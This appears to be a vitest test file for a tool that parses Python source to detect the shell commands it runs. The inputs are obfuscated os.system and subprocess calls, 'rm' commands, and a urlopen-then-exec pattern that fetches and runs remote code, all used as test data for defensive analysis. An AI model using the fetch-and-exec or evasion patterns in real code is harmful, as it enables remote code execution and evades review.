import { beforeAll, expect, it } from "vitest";
import { createParser, type DocumentParser } from "../../src/nix/parser.ts";
import { readPython } from "../../src/nix/python.ts";

let parsers: { bash: DocumentParser; python: DocumentParser };
beforeAll(async () => {
  parsers = { bash: await createParser("bash"), python: await createParser("python") };
});

function lines(text: string): string[] {
  return readPython(parsers, text).commands.map(({ name, words }) => [name, ...words].join(" "));
}

it.each([
  ["import os\nos.system('rm ' + 'a')", "rm a"],
  ["import subprocess as s\ns.run(['rm', 'a'])", "rm a"],
  ["from subprocess import run\nrun(['rm', name])", "rm $name"],
  ["__import__('os').system('rm a')", "rm a"],
  ["getattr(os, 'system')('rm a')", "rm a"],
  ["x = 'rm'\nos.system(x + ' a')", "rm a"],
  ["os.system(f'rm {a}')", "rm $a"],
])("reads the command that %j runs", (text, line) => {
  expect(lines(text)).toContain(line);
});

it("says what a call's arguments come from", () => {
  const { commands } = readPython(parsers, "r = urlopen('https://a.example')\nexec(r.read())");
  const held = (name: string) =>
    commands.find((each) => each.name === name)?.holds.map((index) => commands[index]?.name);
  expect(held("exec")).toEqual(["r.read"]);
  expect(held("r.read")).toEqual(["urlopen"]);
});

it.each([
  ["calls", `${"f(".repeat(3_000)}1${")".repeat(3_000)}`],
  ["lists", `x = ${"[".repeat(3_000)}${"]".repeat(3_000)}`],
  ["sums", `os.system(${"'a' + ".repeat(3_000)}'b')`],
])("very deep %s end, and are not taken for read", (_, text) => {
  expect(readPython(parsers, text).parsed).toBe(false);
});

it("leaves comments and strings alone", () => {
  expect(lines('# os.system("rm a")\nx = "os.system()"')).toEqual([]);
});
